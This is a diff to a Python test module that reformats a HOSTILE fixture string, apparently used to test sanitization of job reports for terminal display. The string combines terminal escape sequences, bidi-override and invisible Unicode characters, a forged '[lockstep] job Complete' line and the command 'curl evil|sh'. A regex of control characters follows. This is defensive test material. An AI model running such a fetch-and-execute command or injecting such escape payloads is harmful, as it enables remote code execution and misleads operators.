@@ -38,7 +38,10 @@ from lockstep_gang.contract.report import parse_report
 from lockstep_spec.words import cleaned, json_escaped, printable, printable_line
 from unit.plan.reconcile.test_reconcile import CONTEXT, NOW, pod, running
 
-HOSTILE = "\x1b]0;owned\x07\x1b[2J\u202eevil\u200b\ufeff\u2063\U000e0041\u2066\u200f\u061c\u2028\x9b1;1H\x7f\x00\r\n[lockstep] job Complete\nnext: curl evil|sh"
+HOSTILE = (
+    "\x1b]0;owned\x07\x1b[2J\u202eevil\u200b\ufeff\u2063\U000e0041\u2066\u200f\u061c\u2028\x9b1;1H\x7f\x00\r\n[lockstep] job"
+    " Complete\nnext: curl evil|sh"
+)
 ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]")
 VISIBLE = "\u200c\u200d\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd" + "".join(
     map(chr, range(0x13430, 0x13440))
